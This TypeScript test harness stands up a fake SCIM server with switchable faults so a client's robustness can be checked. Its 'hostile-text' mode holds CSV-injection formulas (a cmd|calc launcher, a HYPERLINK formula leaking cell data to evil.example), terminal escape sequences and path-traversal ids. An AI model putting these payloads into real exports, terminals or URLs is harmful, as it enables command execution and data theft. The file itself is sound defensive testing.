/**
 * A SCIM-looking test server with one switchable pathology, for proving that the target client
 * and the error classification survive a hostile or broken endpoint.
 *
 * Built on node:net, not node:http or express: several pathologies (an HTTP/1.0 close-delimited
 * body, chunk extensions, invalid UTF-8, a TCP reset half-way through a body) are impossible or
 * unfaithful through http.ServerResponse. The request side is parsed by hand, which is enough
 * for the requests the harness sends (Content-Length bodies, no chunked uploads).
 *
 * Outside its pathology the server behaves like a minimal in-memory SCIM service
 * (RFC 7644 §3.3 create, §3.4.1 read, §3.4.2 filtered list, §3.5.2 PATCH, §3.6 DELETE).
 */
import { randomUUID } from 'node:crypto';
import { STATUS_CODES } from 'node:http';
import net from 'node:net';

export const PATHOLOGIES = [
  'malformed-json',
  'truncated-json',
  'non-json-body',
  'wrong-content-type',
  'empty-body',
  'invalid-utf8',
  'huge-body',
  'list-wrong-shape',
  'list-lying-total',
  'resource-without-id',
  'slow',
  'stall-mid-body',
  'reset',
  'reset-mid-body',
  'redirect-cross-origin',
  'redirect-same-origin',
  'http10',
  'chunked-oddities',
  'status-500',
  'status-503-retry-after',
  'status-401',
  'status-404-on-filter',
  // Output neutralisation: target text built to run in spreadsheets, terminals and Markdown.
  'hostile-text',
  // Bounds: what a target sends may be huge or deep, and the harness must stay linear and alive.
  'huge-list',
  'deep-json',
  // Availability and resource addressing: a target that never finishes its headers, and ids that are not one path segment.
  'trickle-headers',
  'dot-id',
] as const;

/**
 * hostile-text: what the target puts in ids, names and error details. Each string starts like a
 * spreadsheet formula (OWASP CSV injection) and carries terminal escape sequences (ECMA-48: OSC
 * title, clear screen, OSC 8 hyperlink, DCS query, 8-bit CSI 0x9B) and plain URLs a Markdown
 * renderer would autolink.
 */
export const HOSTILE_TEXT_PAYLOADS = {
  /**
   * A resource id: none of "/?#\\" and no C0 control character, so it still addresses the resource
   * as one URL path segment (engine/resource-path.ts refuses the others); the 8-bit CSI 0x9B is C1.
   */
  id: "=cmd|' -C calc'!A0\u009b2J",
  displayName: '=HYPERLINK("http://evil.example/?leak="&A2,"click")\u001b[2J\u001b]8;;http://evil.example/\u001b\\x\u001b]8;;\u001b\\',
  userName: '+SUM(1+1)\u001bP$q\u001b\\\u001b[1A@evil.example',
  detail: '@SUM(1+1)*cmd|\' /C calc\'!A0 \u001b]0;pwned\u0007 \u001b[2J \u009b31m see http://evil.example/leak and www.evil.example',
} as const;

/**
 * dot-id: the ids creates are answered with, in turn — each one leaves its collection when put in a
 * URL (RFC 3986 §5.2.4 dot segments, WHATWG URL's "%2e", delimiters, the empty id).
 */
export const DOT_IDS: readonly string[] = ['.', '..', '%2e', '%2E%2E', 'a/../..', '', 'x?y', 'x#y'];

export type Pathology = (typeof PATHOLOGIES)[number];

/** `none` is the well-behaved server, the control for every pathology. */
export type HostileMode = Pathology | 'none';

export interface HostileRequest {
  readonly method: string;
  /** The request target as received, e.g. "/scim/v2/Users?filter=…". */
  readonly target: string;
  /** Decoded path without the query. */
  readonly path: string;
  readonly query: Readonly<Record<string, string>>;
  /** Header names lower-cased; repeated headers joined with ", ". */
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

export type ListShapeFault = 'resources-not-array' | 'missing-total-results';

export interface SeedResource {
  readonly resourceType: 'User' | 'Group';
  readonly id: string;
  readonly [attribute: string]: unknown;
}

export interface HostileServerOptions {
  readonly pathology: HostileMode;
  /**
   * Which requests get the pathology; the others are answered correctly. Defaults: list
   * pathologies and status-404-on-filter hit collection GETs, resource-without-id hits POST,
   * every other pathology hits every request.
   */
  readonly appliesTo?: (request: HostileRequest) => boolean;
  /** Base path of the SCIM service. Default "/scim/v2". */
  readonly basePath?: string;
  /** Resources present from the start (e.g. a user "abc" to read). */
  readonly seed?: readonly SeedResource[];
  /** slow: delay before the status line. Default 2000 ms. */
  readonly delayMs?: number;
  /** huge-body: body size streamed. Default 10 MiB. */
  readonly hugeBodyBytes?: number;
  /** redirect-cross-origin: origin (or URL prefix) the Location points to. Default http://localhost:<port>. */
  readonly redirectTo?: string;
  /** status-503-retry-after: Retry-After value in seconds. Default 1. */
  readonly retryAfterSeconds?: number;
  /** list-wrong-shape: which part of the ListResponse is wrong. Default resources-not-array. */
  readonly listShape?: ListShapeFault;
  /** huge-list: how many `{}` items the ListResponse holds (3 bytes each). Default 20,000: past the checks' page bound, cheap to run. */
  readonly hugeListItems?: number;
  /** deep-json: how many levels the body nests. Default 100,000. */
  readonly deepJsonLevels?: number;
  /** deep-json: `[[[…]]]` or `{"a":{"a":…}}`. Default array. */
  readonly deepJsonShape?: 'array' | 'object';
  /** trickle-headers: pause between header lines. Default 100 ms. */
  readonly trickleMs?: number;
}

export interface HostileServer {
  /** e.g. http://127.0.0.1:40123/scim/v2 */
  readonly baseUrl: string;
  readonly origin: string;
  readonly port: number;
  /** Every request received, in order. */
  readonly requests: readonly HostileRequest[];
  /** Destroys open sockets and pending timers; always completes. */
  close(): Promise<void>;
}

const SCIM_JSON = 'application/scim+json';
const LIST_RESPONSE = 'urn:ietf:params:scim:api:messages:2.0:ListResponse';
const ERROR_SCHEMA = 'urn:ietf:params:scim:api:messages:2.0:Error';
const CORE_SCHEMA: Readonly<Record<SeedResource['resourceType'], string>> = {
  User: 'urn:ietf:params:scim:schemas:core:2.0:User',
  Group: 'urn:ietf:params:scim:schemas:core:2.0:Group',
};
const HUGE_CHUNK_BYTES = 64 * 1024;
const RESET_PAUSE_MS = 50;
/** Requests larger than this are refused, so a broken client cannot exhaust the test process. */
const MAX_REQUEST_BYTES = 1024 * 1024;

/** A collection GET (RFC 7644 §3.4.2): /Users or /Groups, filtered or not. */
export function isListQuery(request: HostileRequest, basePath = '/scim/v2'): boolean {
  return request.method === 'GET' && /^\/(Users|Groups)\/?$/.test(stripBase(request.path, basePath) ?? '');
}

function stripBase(path: string, basePath: string): string | undefined {
  const base = basePath.replace(/\/+$/, '');
  if (path === base) return '/';
  return path.startsWith(`${base}/`) ? path.slice(base.length) : undefined;
}

function defaultAppliesTo(pathology: HostileMode, basePath: string): (request: HostileRequest) => boolean {
  switch (pathology) {
    case 'none':
      return () => false;
    case 'list-wrong-shape':
    case 'list-lying-total':
    case 'status-404-on-filter':
    case 'huge-list':
      return (request) => isListQuery(request, basePath);
    case 'resource-without-id':
    case 'hostile-text':
    case 'dot-id':
      return (request) => request.method === 'POST';
    default:
      return () => true;
  }
}

/** The response a correct SCIM service would give; pathologies distort it. */
interface PlannedResponse {
  readonly status: number;
  readonly headers: Readonly<Record<string, string>>;
  /** undefined: no body (204, or a 404 without details is never produced here). */
  readonly body?: unknown;
}

function scimError(status: number, detail: string, scimType?: string): PlannedResponse {
  // RFC 7644 §3.12: status is a string in the error body.
  return {
    status,
    headers: { 'Content-Type': SCIM_JSON },
    body: { schemas: [ERROR_SCHEMA], status: String(status), ...(scimType ? { scimType } : {}), detail },
  };
}

type Store = Map<string, Record<string, unknown>>;

class ScimBehaviour {
  private readonly stores: Record<SeedResource['resourceType'], Store> = { User: new Map(), Group: new Map() };

  constructor(
    private readonly basePath: string,
    seed: readonly SeedResource[],
  ) {
    for (const { resourceType, ...attributes } of seed) {
      this.stores[resourceType].set(attributes.id, {
        schemas: [CORE_SCHEMA[resourceType]],
        ...attributes,
        meta: { resourceType },
      });
    }
  }

  answer(request: HostileRequest): PlannedResponse {
    const relative = stripBase(request.path, this.basePath);
    const match = relative === undefined ? null : /^\/(Users|Groups)(?:\/([^/]+))?\/?$/.exec(relative);
    if (!match) return scimError(404, `no SCIM resource at ${request.path}`);
    const resourceType = match[1] === 'Users' ? 'User' : 'Group';
    const store = this.stores[resourceType];
    const id = match[2];

    if (id === undefined) {
      if (request.method === 'GET') return this.list(store, request.query.filter);
      if (request.method === 'POST') return this.create(resourceType, store, request);
      return scimError(405, `${request.method} is not supported on ${request.path}`);
    }
    const existing = store.get(id);
    if (!existing) return scimError(404, `Resource ${id} not found`);
    switch (request.method) {
      case 'GET':
        return this.resource(200, existing);
      case 'DELETE':
        store.delete(id);
        return { status: 204, headers: {} };
      case 'PATCH':
      case 'PUT': {
        const parsed = parseJson(request.body);
        if (!isRecord(parsed)) return scimError(400, 'the request body is not a JSON object', 'invalidSyntax');
        const updated = request.method === 'PUT' ? { ...parsed, id, meta: existing.meta } : applyPatch(existing, parsed);
        store.set(id, updated);
        return this.resource(200, updated);
      }
      default:
        return scimError(405, `${request.method} is not supported on ${request.path}`);
    }
  }

  private list(store: Store, filter: string | undefined): PlannedResponse {
    // Only `attr eq "value"`, the one operator Entra sends (docs/entra-behaviour.md#filters-used); anything else matches nothing.
    const eq = filter === undefined ? undefined : /^\s*([\w.:]+)\s+eq\s+"((?:[^"\\]|\\.)*)"\s*$/i.exec(filter);
    const resources = [...store.values()].filter((resource) => {
      if (filter === undefined) return true;
      if (!eq) return false;
      const value = resource[eq[1]];
      const wanted = parseJson(`"${eq[2]}"`);
      return typeof value === 'string' && typeof wanted === 'string' && value.toLowerCase() === wanted.toLowerCase();
    });
    return {
      status: 200,
      headers: { 'Content-Type': SCIM_JSON },
      body: {
        schemas: [LIST_RESPONSE],
        totalResults: resources.length,
        startIndex: 1,
        itemsPerPage: resources.length,
        Resources: resources,
      },
    };
  }

  private create(resourceType: SeedResource['resourceType'], store: Store, request: HostileRequest): PlannedResponse {
    const parsed = parseJson(request.body);
    if (!isRecord(parsed)) return scimError(400, 'the request body is not a JSON object', 'invalidSyntax');
    const id = randomUUID();
    const created: Record<string, unknown> = { ...parsed, id, meta: { resourceType } };
    delete created.password;
    store.set(id, created);
    return this.resource(201, created, `${this.basePath}/${resourceType}s/${id}`);
  }

  /** hostile-text: the resource created last takes the target's own id and names. */
  reidentify(resourceType: SeedResource['resourceType'], id: string, changes: Record<string, unknown> & { id: string }): Record<string, unknown> | undefined {
    const store = this.stores[resourceType];
    const resource = store.get(id);
    if (!resource) return undefined;
    store.delete(id);
    const updated = { ...resource, ...changes };
    store.set(changes.id, updated);
    return updated;
  }

  private resource(status: number, resource: Record<string, unknown>, location?: string): PlannedResponse {
    return { status, headers: { 'Content-Type': SCIM_JSON, ...(location ? { Location: location } : {}) }, body: resource };
  }
}

function isRecord(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function parseJson(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
}

/** Simple-path add/replace/remove (RFC 7644 §3.5.2); enough for a stand-in service. */
function applyPatch(resource: Record<string, unknown>, patch: Record<string, unknown>): Record<string, unknown> {
  const updated = { ...resource };
  const operations = Array.isArray(patch.Operations) ? patch.Operations : [];
  for (const operation of operations) {
    if (!isRecord(operation)) continue;
    const op = typeof operation.op === 'string' ? operation.op.toLowerCase() : '';
    const path = typeof operation.path === 'string' ? operation.path : undefined;
    if (op === 'remove' && path !== undefined) {
      delete updated[path];
    } else if (path !== undefined) {
      updated[path] = operation.value;
    } else if (isRecord(operation.value)) {
      Object.assign(updated, operation.value);
    }
  }
  return updated;
}

function statusLine(status: number, version = '1.1'): string {
  return `HTTP/${version} ${status} ${STATUS_CODES[status] ?? 'Unknown'}\r\n`;
}

function headerLines(headers: Readonly<Record<string, string>>): string {
  return Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('');
}

function serialise(body: unknown): Buffer {
  return Buffer.from(JSON.stringify(body), 'utf8');
}

interface Connection {
  readonly socket: net.Socket;
  buffer: Buffer;
  busy: boolean;
}

interface ParsedHead {
  readonly request: HostileRequest;
  readonly consumed: number;
}

function parseRequest(buffer: Buffer): ParsedHead | 'incomplete' | 'invalid' {
  const end = buffer.indexOf('\r\n\r\n');
  if (end === -1) return buffer.length > MAX_REQUEST_BYTES ? 'invalid' : 'incomplete';
  const lines = buffer.subarray(0, end).toString('latin1').split('\r\n');
  const requestLine = /^([A-Z]+) (\S+) HTTP\/1\.[01]$/.exec(lines[0] ?? '');
  if (!requestLine) return 'invalid';
  const headers: Record<string, string> = {};
  for (const line of lines.slice(1)) {
    const colon = line.indexOf(':');
    if (colon <= 0) return 'invalid';
    const name = line.slice(0, colon).trim().toLowerCase();
    const value = line.slice(colon + 1).trim();
    headers[name] = headers[name] === undefined ? value : `${headers[name]}, ${value}`;
  }
  if (headers['transfer-encoding'] !== undefined) return 'invalid';
  const length = headers['content-length'] === undefined ? 0 : Number(headers['content-length']);
  if (!Number.isInteger(length) || length < 0 || length > MAX_REQUEST_BYTES) return 'invalid';
  const bodyStart = end + 4;
  if (buffer.length < bodyStart + length) return 'incomplete';
  const target = requestLine[2];
  let url: URL;
  try {
    url = new URL(target, 'http://hostile.invalid');
  } catch {
    return 'invalid';
  }
  let path: string;
  try {
    path = decodeURIComponent(url.pathname);
  } catch {
    path = url.pathname;
  }
  return {
    request: {
      method: requestLine[1],
      target,
      path,
      query: Object.fromEntries(url.searchParams.entries()),
      headers,
      body: buffer.subarray(bodyStart, bodyStart + length).toString('utf8'),
    },
    consumed: bodyStart + length,
  };
}

/** RST rather than FIN, so the client sees ECONNRESET the way a crashed proxy produces it. */
function reset(socket: net.Socket): void {
  if (typeof socket.resetAndDestroy === 'function' && !socket.destroyed) {
    socket.resetAndDestroy();
  } else {
    socket.destroy();
  }
}

export async function startHostileServer(options: HostileServerOptions): Promise<HostileServer> {
  const basePath = (options.basePath ?? '/scim/v2').replace(/\/+$/, '');
  const appliesTo = options.appliesTo ?? defaultAppliesTo(options.pathology, basePath);
  const behaviour = new ScimBehaviour(basePath, options.seed ?? []);
  const requests: HostileRequest[] = [];
  const sockets = new Set<net.Socket>();
  const timers = new Set<NodeJS.Timeout>();
  let port = 0;
  let dotIdsIssued = 0;

  const later = (ms: number, run: () => void): void => {
    const timer = setTimeout(() => {
      timers.delete(timer);
      run();
    }, ms);
    timers.add(timer);
  };

  /** Writes a complete HTTP/1.1 message with a Content-Length body and keeps the connection. */
  const writeMessage = (
    connection: Connection,
    status: number,
    headers: Readonly<Record<string, string>>,
    body: Buffer | undefined,
  ): void => {
    // RFC 9110 §8.6: no Content-Length on 204/304; every other message here is length-delimited.
    const framing: Record<string, string> =
      body === undefined ? (status === 204 || status === 304 ? {} : { 'Content-Length': '0' }) : { 'Content-Length': String(body.length) };
    connection.socket.write(statusLine(status) + headerLines({ ...headers, ...framing }));
    connection.socket.write('\r\n');
    if (body !== undefined) connection.socket.write(body);
    done(connection);
  };

  const done = (connection: Connection): void => {
    connection.busy = false;
    setImmediate(() => pump(connection));
  };

  /** Half a body behind a Content-Length announcing all of it. */
  const writeHalf = (connection: Connection, planned: PlannedResponse): void => {
    const body = serialise(planned.body ?? { schemas: [LIST_RESPONSE], totalResults: 0, Resources: [] });
    connection.socket.write(
      statusLine(planned.status) +
        headerLines({ ...planned.headers, 'Content-Type': SCIM_JSON, 'Content-Length': String(body.length) }) +
        '\r\n',
    );
    connection.socket.write(body.subarray(0, Math.floor(body.length / 2)));
  };

  const streamHuge = (connection: Connection, planned: PlannedResponse): void => {
    const { socket } = connection;
    const total = options.hugeBodyBytes ?? 10 * 1024 * 1024;
    const head = Buffer.from(`{"schemas":["${CORE_SCHEMA.User}"],"id":"huge","padding":"`);
    const tail = Buffer.from('"}');
    const filler = Buffer.alloc(HUGE_CHUNK_BYTES, 'a');
    let remaining = Math.max(0, total - head.length - tail.length);
    // Chunked, with no Content-Length: the client can only find out the size by reading.
    socket.write(statusLine(planned.status) + headerLines({ 'Content-Type': SCIM_JSON, 'Transfer-Encoding': 'chunked' }) + '\r\n');
    const chunk = (data: Buffer): boolean =>
      socket.write(Buffer.concat([Buffer.from(`${data.length.toString(16)}\r\n`), data, Buffer.from('\r\n')]));
    chunk(head);
    const writeMore = (): void => {
      while (remaining > 0 && !socket.destroyed) {
        const piece = filler.subarray(0, Math.min(remaining, filler.length));
        remaining -= piece.length;
        if (!chunk(piece)) {
          socket.once('drain', writeMore);
          return;
        }
      }
      if (!socket.destroyed) {
        chunk(tail);
        socket.write('0\r\n\r\n');
        done(connection);
      }
    };
    writeMore();
  };

  const writeChunkedOddly = (connection: Connection, planned: PlannedResponse): void => {
    const body = serialise(planned.body ?? {});
    const { socket } = connection;
    const headers = { ...planned.headers, 'Transfer-Encoding': 'chunked', Trailer: 'X-Checksum' };
    socket.write(statusLine(planned.status) + headerLines(headers) + '\r\n');
    let offset = 0;
    let index = 0;
    while (offset < body.length) {
      const size = Math.min(1 + (index % 3), body.length - offset);
      // RFC 9112 §7.1.1: chunk extensions must be ignored by a recipient that does not understand them;
      // §7.1: chunk-size is hex, in either case.
      const extension = index === 0 ? ';name=value' : index === 1 ? ';quoted="a b"' : index % 7 === 0 ? ';flag' : '';
      const sizeText = index % 2 === 0 ? size.toString(16).toUpperCase() : `0${size.toString(16)}`;
      socket.write(`${sizeText}${extension}\r\n`);
      socket.write(body.subarray(offset, offset + size));
      socket.write('\r\n');
      offset += size;
      index += 1;
    }
    // RFC 9112 §7.1.2: a trailer section after the last chunk.
    socket.write('0;last=1\r\nX-Checksum: ignored\r\n\r\n');
    done(connection);
  };

  const writeHttp10 = (connection: Connection, planned: PlannedResponse): void => {
    const { socket } = connection;
    // RFC 9112 §6.3 item 8: without Content-Length or chunking, the body ends when the connection closes.
    socket.write(statusLine(planned.status, '1.0') + headerLines({ ...planned.headers, Connection: 'close' }) + '\r\n');
    if (planned.body === undefined) {
      socket.end();
    } else {
      socket.end(serialise(planned.body));
    }
  };

  // Built once: a million items take tens of milliseconds to serialise, not to be repeated per request.
  const hugeList = options.pathology === 'huge-list' ? hugeListBody(options.hugeListItems ?? 20_000) : Buffer.alloc(0);
  const deepJson = options.pathology === 'deep-json' ? deepJsonBody(options.deepJsonLevels ?? 100_000, options.deepJsonShape ?? 'array') : Buffer.alloc(0);

  const listShapeBody = (planned: PlannedResponse): unknown => {
    const body = isRecord(planned.body) ? planned.body : {};
    if ((options.listShape ?? 'resources-not-array') === 'missing-total-results') {
      const { totalResults: _totalResults, ...rest } = body;
      return rest;
    }
    return { ...body, Resources: { count: 0 } };
  };

  const applyPathology = (connection: Connection, request: HostileRequest, planned: PlannedResponse): void => {
    const { socket } = connection;
    const pathology = options.pathology;
    // Body pathologies leave body-less answers (204) alone: a 204 cannot carry a body (RFC 9110 §15.3.5).
    const hasBody = planned.body !== undefined;
    const plain = (): void => writeMessage(connection, planned.status, planned.headers, hasBody ? serialise(planned.body) : undefined);
    switch (pathology) {
      case 'none':
        plain();
        return;
      case 'malformed-json': {
        if (!hasBody) return plain();
        // Unquoted member name and a trailing comma: the classic hand-built JSON mistakes.
        const text = JSON.stringify(planned.body).replace(/"(\w+)":/, '$1:').replace(/}$/, ',}');
        writeMessage(connection, planned.status, planned.headers, Buffer.from(text, 'utf8'));
        return;
      }
      case 'truncated-json': {
        if (!hasBody) return plain();
        const body = serialise(planned.body);
        writeMessage(connection, planned.status, planned.headers, body.subarray(0, Math.ceil(body.length / 2)));
        return;
      }
      case 'non-json-body': {
        const html =
          '<!DOCTYPE html><html><head><title>Service Unavailable</title></head>' +
          '<body><h1>Maintenance</h1><p>The application is being upgraded.</p></body></html>';
        const status = planned.status === 204 ? 200 : planned.status;
        writeMessage(connection, status, { 'Content-Type': 'text/html; charset=utf-8' }, Buffer.from(html));
        return;
      }
      case 'wrong-content-type':
        if (!hasBody) return plain();
        writeMessage(
          connection,
          planned.status,
          { ...planned.headers, 'Content-Type': 'text/html; charset=utf-8' },
          serialise(planned.body),
        );
        return;
      case 'empty-body':
        writeMessage(connection, planned.status, {}, undefined);
        return;
      case 'invalid-utf8': {
        if (!hasBody) return plain();
        const marker = 'INVALID-UTF8-MARKER';
        const text = JSON.stringify({ ...(isRecord(planned.body) ? planned.body : {}), nickName: marker });
        const at = text.indexOf(marker);
        // 0xC3 0x28 is an invalid two-byte sequence, 0xFF never occurs in UTF-8 (RFC 3629 §1).
        const body = Buffer.concat([
          Buffer.from(text.slice(0, at)),
          Buffer.from([0xc3, 0x28, 0xff]),
          Buffer.from(text.slice(at + marker.length)),
        ]);
        writeMessage(connection, planned.status, planned.headers, body);
        return;
      }
      case 'huge-body':
        streamHuge(connection, planned);
        return;
      case 'list-wrong-shape':
        writeMessage(connection, planned.status, planned.headers, serialise(listShapeBody(planned)));
        return;
      case 'list-lying-total':
        writeMessage(
          connection,
          200,
          { 'Content-Type': SCIM_JSON },
          serialise({ schemas: [LIST_RESPONSE], totalResults: 5, startIndex: 1, itemsPerPage: 0, Resources: [] }),
        );
        return;
      case 'resource-without-id': {
        const { id: _id, ...withoutId } = isRecord(planned.body) ? planned.body : {};
        const { Location: _location, ...headers } = planned.headers;
        writeMessage(connection, planned.status, headers, serialise(withoutId));
        return;
      }
      case 'slow':
        later(options.delayMs ?? 2000, () => {
          if (!socket.destroyed) plain();
        });
        return;
      case 'stall-mid-body':
        writeHalf(connection, planned);
        return;
      case 'reset':
        reset(socket);
        return;
      case 'reset-mid-body':
        writeHalf(connection, planned);
        // A pause first, so the client has read the status line before the RST discards its buffers.
        later(RESET_PAUSE_MS, () => reset(socket));
        return;
      case 'redirect-cross-origin': {
        const target = `${(options.redirectTo ?? `http://localhost:${port}`).replace(/\/+$/, '')}${request.target}`;
        writeMessage(connection, 302, { Location: target }, undefined);
        return;
      }
      case 'redirect-same-origin':
        writeMessage(connection, 307, { Location: `/moved${request.target}` }, undefined);
        return;
      case 'http10':
        writeHttp10(connection, planned);
        return;
      case 'chunked-oddities':
        if (!hasBody) return plain();
        writeChunkedOddly(connection, planned);
        return;
      case 'status-500': {
        const error = scimError(500, 'Internal failure while processing the request');
        writeMessage(connection, 500, error.headers, serialise(error.body));
        return;
      }
      case 'status-503-retry-after': {
        const error = scimError(503, 'Service temporarily overloaded');
        writeMessage(connection, 503, { ...error.headers, 'Retry-After': String(options.retryAfterSeconds ?? 1) }, serialise(error.body));
        return;
      }
      case 'status-401': {
        const error = scimError(401, 'The bearer token is invalid or expired');
        // RFC 6750 §3: a 401 for a bearer-protected resource carries WWW-Authenticate.
        const challenge = 'Bearer realm="scim", error="invalid_token"';
        writeMessage(connection, 401, { ...error.headers, 'WWW-Authenticate': challenge }, serialise(error.body));
        return;
      }
      case 'status-404-on-filter': {
        const error = scimError(404, 'No resources match the filter');
        writeMessage(connection, 404, error.headers, serialise(error.body));
        return;
      }
      case 'hostile-text':
        hostileText(connection, request, planned);
        return;
      case 'huge-list':
        writeMessage(connection, 200, { 'Content-Type': SCIM_JSON }, hugeList);
        return;
      case 'deep-json':
        writeMessage(connection, planned.status === 204 ? 200 : planned.status, { 'Content-Type': SCIM_JSON }, deepJson);
        return;
      case 'trickle-headers': {
        // The status line, then one header line at a time, never the blank line that ends them:
        // the connection is alive and busy, but no response ever completes.
        socket.write(statusLine(200));
        let line = 0;
        const trickle = (): void => {
          if (socket.destroyed) return;
          socket.write(`X-Trickle-${line}: ${'a'.repeat(8)}\r\n`);
          line += 1;
          later(options.trickleMs ?? 100, trickle);
        };
        trickle();
        return;
      }
      case 'dot-id': {
        if (!(planned.status === 201 && isRecord(planned.body))) return plain();
        const id = DOT_IDS[dotIdsIssued % DOT_IDS.length];
        dotIdsIssued += 1;
        const { Location: _location, ...headers } = planned.headers;
        writeMessage(connection, planned.status, headers, serialise({ ...planned.body, id }));
        return;
      }
    }
  };

  /**
   * POSTs in turn: a 400 whose text/plain body holds the raw bytes (ESC, BEL, 0x9B, CR), a 201
   * whose resource takes the hostile id and names, a 400 SCIM error with the hostile detail.
   */
  let hostilePosts = 0;
  const hostileText = (connection: Connection, request: HostileRequest, planned: PlannedResponse): void => {
    if (request.method !== 'POST') {
      applyPathologyless(connection, planned);
      return;
    }
    hostilePosts += 1;
    const payloads = HOSTILE_TEXT_PAYLOADS;
    if (hostilePosts % 3 === 1 || planned.status !== 201 || !isRecord(planned.body)) {
      const body = `${payloads.detail}\r\n${payloads.displayName}\rOK`;
      writeMessage(connection, 400, { 'Content-Type': 'text/plain; charset=utf-8' }, Buffer.from(body, 'utf8'));
      return;
    }
    if (hostilePosts % 3 === 0) {
      const error = scimError(400, payloads.detail, 'invalidValue');
      writeMessage(connection, 400, error.headers, serialise(error.body));
      return;
    }
    const resourceType = /\/Groups\/?$/.test(request.path) ? 'Group' : 'User';
    const id = `${payloads.id}-${hostilePosts}`;
    const names = resourceType === 'User' ? { displayName: payloads.displayName, userName: `${payloads.userName}-${hostilePosts}` } : { displayName: payloads.displayName };
    const created = behaviour.reidentify(resourceType, String(planned.body.id), { id, ...names }) ?? planned.body;
    writeMessage(connection, 201, { 'Content-Type': SCIM_JSON, Location: `${basePath}/${resourceType}s/${encodeURIComponent(id)}` }, serialise(created));
  };

  const pump = (connection: Connection): void => {
    if (connection.busy || connection.socket.destroyed) return;
    const parsed = parseRequest(connection.buffer);
    if (parsed === 'incomplete') return;
    if (parsed === 'invalid') {
      connection.socket.end(statusLine(400) + 'Content-Length: 0\r\nConnection: close\r\n\r\n');
      return;
    }
    connection.buffer = connection.buffer.subarray(parsed.consumed);
    connection.busy = true;
    requests.push(parsed.request);
    const planned = behaviour.answer(parsed.request);
    if (appliesTo(parsed.request)) {
      applyPathology(connection, parsed.request, planned);
    } else {
      applyPathologyless(connection, planned);
    }
  };

  const applyPathologyless = (connection: Connection, planned: PlannedResponse): void =>
    writeMessage(connection, planned.status, planned.headers, planned.body === undefined ? undefined : serialise(planned.body));

  const server = net.createServer((socket) => {
    sockets.add(socket);
    const connection: Connection = { socket, buffer: Buffer.alloc(0), busy: false };
    socket.on('close', () => sockets.delete(socket));
    // A client that gives up mid-response resets the socket; that is expected here.
    socket.on('error', () => undefined);
    socket.on('data', (chunk: Buffer) => {
      connection.buffer = Buffer.concat([connection.buffer, chunk]);
      pump(connection);
    });
  });

  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      server.off('error', reject);
      resolve();
    });
  });
  const address = server.address();
  if (address === null || typeof address === 'string') {
    throw new Error('the hostile server did not bind a TCP port');
  }
  port = address.port;
  const origin = `http://127.0.0.1:${port}`;

  let closing: Promise<void> | undefined;
  return {
    baseUrl: `${origin}${basePath}`,
    origin,
    port,
    requests,
    close() {
      closing ??= new Promise<void>((resolve) => {
        for (const timer of timers) clearTimeout(timer);
        timers.clear();
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      });
      return closing;
    },
  };
}

/** A ListResponse of `items` empty objects: `totalResults` tells the truth, the page is the whole result. */
function hugeListBody(items: number): Buffer {
  const head = `{"schemas":["${LIST_RESPONSE}"],"totalResults":${items},"startIndex":1,"itemsPerPage":${items},"Resources":[`;
  const list = items > 0 ? `{}${',{}'.repeat(items - 1)}` : '';
  return Buffer.from(`${head}${list}]}`, 'utf8');
}

/** `[[[…]]]` or `{"a":{"a":…1…}}`, `levels` deep: valid JSON (RFC 8259 sets no depth limit). */
function deepJsonBody(levels: number, shape: 'array' | 'object'): Buffer {
  return Buffer.from(shape === 'array' ? `${'['.repeat(levels)}${']'.repeat(levels)}` : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`, 'utf8');
}

/** The base URL of a port that was listening a moment ago and is now closed: connecting is refused. */
export async function refusedUrl(basePath = '/scim/v2'): Promise<string> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') {
    throw new Error('the probe server did not bind a TCP port');
  }
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return `http://127.0.0.1:${address.port}${basePath}`;
}
